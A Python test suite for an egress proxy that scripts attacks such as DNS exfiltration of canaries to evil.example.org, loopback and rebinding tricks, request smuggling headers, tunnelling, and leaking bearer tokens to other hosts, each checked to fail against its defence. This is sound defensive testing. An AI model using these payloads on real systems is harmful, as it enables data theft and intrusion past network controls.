"""Network and credentials: attacks over the one way out, through the proxy behind it."""

import asyncio
from collections.abc import AsyncIterator, Sequence
from contextlib import asynccontextmanager

from attack import Attack, Judge, Scene, together
from doors import ANYWHERE, BOTH, PROGRAM, USE, egress
from egress_rig import HOST, OTHER, SECRET, Rig, Seen, answer, echo
from trial import fails, succeeds

from tollway.fleet.egressing import EgressRule
from tollway.fleet.guarding import GuardRule, GuardSettings
from tollway.guard.inspection import Guard
from tollway.units import Seconds


def seen(scene: Scene) -> bool:
    """Whether the host got a request."""
    return bool(scene.found["rig"].host.seen)


def seen_of(word: str) -> Judge:
    return lambda scene: any(
        word.encode() in it.head + it.body for it in scene.found["rig"].host.seen
    )


def secret_sent(scene: Scene) -> bool:
    return any(SECRET in it.head + it.body for it in scene.found["rig"].host.seen)


def secret_told(scene: Scene) -> bool:
    return SECRET in scene.out or SECRET.decode() in scene.found["rig"].log.getvalue()


def canary_sent(scene: Scene) -> bool:
    return any(scene.canary.encode() in it.head + it.body for it in scene.found["rig"].host.seen)


async def redirect(seen: Seen) -> None:
    to = f"Location: https://{OTHER}/landed\r\n".encode()
    await seen.say(answer(b"", to, "302 Found"))


async def switch(seen: Seen) -> None:
    """A host that speaks WebSocket, and then reads whatever comes."""
    await seen.say(b"HTTP/1.1 101 Switching\r\nconnection: upgrade\r\nupgrade: websocket\r\n\r\n")


def inside(*addresses: str):
    def before(rig: Rig) -> None:
        rig.names[HOST] = addresses
        rig.settings = {"private": (), "connect_timeout": Seconds(1.0)}

    return before


class Rebinding(dict[str, Sequence[str]]):
    """Public, and then inside."""

    def __init__(self) -> None:
        super().__init__()
        self.answers = [["127.0.0.1"]]

    def get(self, key: str, default: object = None) -> Sequence[str]:  # pyright: ignore[reportIncompatibleMethodOverride]
        return self.answers.pop() if self.answers else ["127.0.0.2"]


def rebind(rig: Rig) -> None:
    rig.names = Rebinding()


@asynccontextmanager
async def at_two(scene: Scene) -> AsyncIterator[None]:
    """A server within, on the host's port, of an address that nobody listed."""

    async def take(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        scene.heard += await reader.read(4096)
        writer.close()

    port = scene.found["rig"].host.port
    server = await asyncio.start_server(take, "127.0.0.2", port)
    yield
    server.close()


CARDS = GuardRule("cards", ("financial",), "block", None, None, "out", ("egress",))
GUARD = Guard(GuardSettings("block", (CARDS,), (), (), None))
NAIVE = ("naive.",)

WAYS = [
    Attack("a host that no rule names", ("egress.rules",), PROGRAM + """
with tried(): ask(F["other"])
""", seen, stage=egress()),
    Attack("a method that no rule names", ("egress.rules",), PROGRAM + """
with tried(): ask(None, method="DELETE", path="/repository")
""", seen, stage=egress(rules=(EgressRule("read", (HOST,), ("GET",), plain=True),))),
    Attack("words in the names that the proxy asks for", ("egress.rules",), PROGRAM + """
for one in (F["words"] + ".evil.example.org:443", F["words"] + "." + F["host"] + ":443"):
    with tried(): connect(one)
with tried():
    there = door()
    there.sendall(("GET http://%s.evil.example.org/ HTTP/1.1\\r\\nHost: %s.evil.example.org\\r\\n\\r\\n" % (F["words"], F["words"])).encode())
    rest(there)
""", lambda scene: any(scene.canary in it for it in scene.found["rig"].looked_up), stage=egress()),
    Attack("a name that leads to the host itself", ("egress.addresses",), PROGRAM + """
with tried(): ask(None)
""", seen, stage=egress(inside("127.0.0.1"), rules=ANYWHERE)),
    Attack("a name that leads inside in disguise", ("egress.addresses",), PROGRAM + """
with tried(): ask(None)
""", seen, stage=egress(inside("::ffff:127.0.0.1"), rules=ANYWHERE)),
    Attack("the host's loopback by its address", ("egress.addresses",), PROGRAM + """
for one in ("127.0.0.1", "[::ffff:127.0.0.1]", "localhost", "0.0.0.0"):
    with tried(): ask(one)
""", seen, stage=egress(inside("127.0.0.1"), rules=ANYWHERE)),
    Attack("a name that is rebound", ("egress.addresses",), PROGRAM + """
for _ in range(4):
    with tried():
        there = door()
        there.sendall(("GET http://%s:%d/ HTTP/1.1\\r\\nHost: %s:%d\\r\\n\\r\\n" % (F["host"], F["port"], F["host"], F["port"])).encode())
        rest(there, 0.5)
""", lambda scene: bool(scene.heard), stage=together(egress(rebind), at_two)),
    Attack("TLS that names another host", ("egress.names",), PROGRAM + """
with tried(): ask(None, there=tls(connect(), F["other"]))
""", seen, stage=egress()),
    Attack("a request that names another host", ("egress.names",), PROGRAM + """
with tried():
    there = tls(connect())
    there.sendall(("GET / HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n" % F["other"]).encode())
    rest(there)
""", seen, stage=egress()),
    Attack("a redirect to elsewhere", ("egress.rules",), PROGRAM + """
with tried():
    got = ask(None)
    if b"302" in got: ask(F["other"], path="/landed")
""", seen_of("/landed"), stage=egress(handler=redirect)),
    Attack("a request hidden behind a length", NAIVE, PROGRAM + """
hidden = "GET /smuggled HTTP/1.1\\r\\nHost: %s:%d\\r\\n\\r\\n" % (F["host"], F["port"])
for lines in ("Content-Length: 0\\r\\nTransfer-Encoding: xchunked\\r\\n",
              "Content-Length: 0\\r\\nContent-Length: %d\\r\\n" % len(hidden),
              "Content-Length: 0\\r\\nX: a\\r Content-Length: %d\\r\\n" % len(hidden),
              "Content-Length : %d\\r\\n" % len(hidden)):
    with tried():
        there = tls(connect())
        there.sendall(("POST / HTTP/1.1\\r\\nHost: %s:%d\\r\\n%s\\r\\n%s" % (F["host"], F["port"], lines, hidden)).encode())
        rest(there, 0.5)
""", seen_of("GET /smuggled"), stage=egress(
        rules=(EgressRule("post", (HOST,), ("POST",), ("/",), plain=True),)
    )),
    Attack("a WebSocket", NAIVE, PROGRAM + """
with tried():
    there = tls(connect())
    there.sendall(("GET /socket HTTP/1.1\\r\\nHost: %s:%d\\r\\nConnection: Upgrade\\r\\nUpgrade: websocket\\r\\n"
        "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\\r\\nSec-WebSocket-Version: 13\\r\\n\\r\\n" % (F["host"], F["port"])).encode())
    head(there)
    there.sendall(F["words"].encode() + b"\\r\\n\\r\\n")
    rest(there, 0.5)
""", canary_sent, stage=egress(handler=switch)),
    Attack("raw bytes behind CONNECT", NAIVE, PROGRAM + """
with tried():
    there = connect()
    there.sendall(F["words"].encode() + b"\\r\\n\\r\\n")
    rest(there, 0.5)
""", canary_sent, stage=lambda scene: plain(scene)),
    Attack("HTTP/2 with prior knowledge", NAIVE, PROGRAM + """
with tried():
    there = tls(connect())
    there.sendall(b"PRI * HTTP/2.0\\r\\n\\r\\n" + F["words"].encode() + b"\\r\\n\\r\\n")
    rest(there, 0.5)
""", seen_of("PRI *"), stage=egress()),
    Attack("a slow head", ("egress.bounds",), PROGRAM + """
with tried():
    there = tls(connect())
    for one in b"GET / HTTP/1.1\\r\\nX: " + b"a" * 100 + b"\\r\\nHost: %s:%d\\r\\n\\r\\n" % (F["host"].encode(), F["port"]):
        there.send(bytes([one])); time.sleep(0.02)
    rest(there)
""", seen, stage=egress(settings={"header_timeout": Seconds(0.5)})),
    Attack("a flood of connections to the proxy", ("egress.bounds",), PROGRAM + """
held = []
for _ in range(12):
    with tried(): held.append(connect())
""", lambda scene: scene.out.count(b"HEAD HTTP/1.1 200") > 4,
        stage=egress(settings={"task_connections": 4})),
    Attack("a card's number to an allowed host", ("egress.inspection",), PROGRAM + """
with tried(): ask(None, method="POST", body=b"card 4111 1111 1111 1111")
""", seen_of("4111 1111 1111 1111"), stage=egress(guard=GUARD)),
]  # fmt: skip


@asynccontextmanager
async def plain(scene: Scene) -> AsyncIterator[None]:
    """The host without TLS, which reads what comes."""
    async with egress(rules=BOTH)(scene):
        rig: Rig = scene.found["rig"]
        rig.host = await rig.another(echo, tls=False)
        scene.facts["port"] = rig.host.port
        yield


secrets = egress(rules=BOTH, uses={"github": USE}, handler=echo)

CREDENTIALS = [
    Attack("a credential to another host", ("egress.binding",), PROGRAM + """
with tried(): ask(F["other"], "Authorization: Bearer %s\\r\\n" % F["sentinel"])
with tried(): ask(F["other"], "X-Token: %s\\r\\n" % F["sentinel"])
with tried(): ask(F["other"], method="POST", body=F["sentinel"].encode())
with tried(): ask(F["other"], path="/?" + F["sentinel"])
""", secret_sent, stage=secrets),
    Attack("another task's sentinel", ("egress.binding",), PROGRAM + """
with tried(): ask(None, "Authorization: Bearer %s\\r\\n" % F["theirs"])
""", secret_sent, stage=secrets),
    Attack("another task's sentinel with its token", ("token.",), PROGRAM + """
import base64
said = "Proxy-Authorization: Basic " + base64.b64encode(("task:" + F["token"]).encode()).decode() + "\\r\\n"
with tried():
    there = tls(connect(more=said))
    ask(None, "Authorization: Bearer %s\\r\\n" % F["theirs"], there=there)
with tried():
    ask(None, said + "X-Task: other\\r\\nAuthorization: Bearer %s\\r\\n" % F["theirs"])
""", secret_sent, stage=secrets),
    Attack("an encoded sentinel", ("egress.hidden",), PROGRAM + """
import base64
hidden = base64.b64encode(F["sentinel"].encode())
with tried(): ask(F["other"], method="POST", body=b"x=" + hidden)
with tried(): ask(F["other"], method="POST", body=F["sentinel"].encode().hex().encode())
""", seen, stage=secrets),
    Attack("a host that reflects", ("egress.reflections",), PROGRAM + """
with tried(): ask(None, "Authorization: Bearer %s\\r\\n" % F["sentinel"])
""", secret_told, stage=secrets),
    Attack("a host that reflects in its error", ("egress.reflections",), PROGRAM + """
with tried(): ask(None, "Authorization: Bearer %s\\r\\n" % F["sentinel"])
with tried(): ask(None, "Authorization: Bearer %s\\r\\n" % F["sentinel"], path="/again")
""", secret_told, stage=egress(rules=BOTH, uses={"github": USE}, handler=lambda it: moan(it))),
    Attack("the proxy's own errors and logs", ("egress.reflections",), PROGRAM + """
bearer = "Authorization: Bearer %s\\r\\n" % F["sentinel"]
for path in ("/", "/" + "x" * 9000, "/\\x7f", "/%00"):
    with tried(): ask(None, bearer, path=path)
with tried(): ask(None, bearer * 3)
with tried(): ask(None, bearer + "Content-Length: 5\\r\\nContent-Length: 6\\r\\n")
with tried(): ask(None, bearer, method="TRACE")
""", secret_told, stage=egress(rules=BOTH, uses={"github": USE}, handler=lambda it: broken(it))),
]  # fmt: skip


async def moan(seen: Seen) -> None:
    line = seen.head.split(b"Bearer ")[1].split(b"\r\n")[0]
    await seen.say(answer(b'{"error": "bad token ' + line + b'"}', b"X-Token: " + line + b"\r\n",
                          "401 Bad " + line.decode("latin-1")))  # fmt: skip


async def broken(seen: Seen) -> None:
    """An answer that is no HTTP, or one that ends early, with the secret in it."""
    line = seen.head.split(b"Bearer ")[1].split(b"\r\n")[0]
    if b"x" * 100 in seen.head:
        await seen.say(b"HTTP/1.1 " + line + b"\r\n\r\n")
    else:
        await seen.say(b"HTTP/1.1 200 OK\r\ncontent-length: 999\r\nx: " + line + b"\r\n\r\n" + line)
    seen.writer.close()


OUT = WAYS + CREDENTIALS
test_attack_fails = fails(OUT)
test_attack_succeeds_without_its_defence = succeeds(OUT)
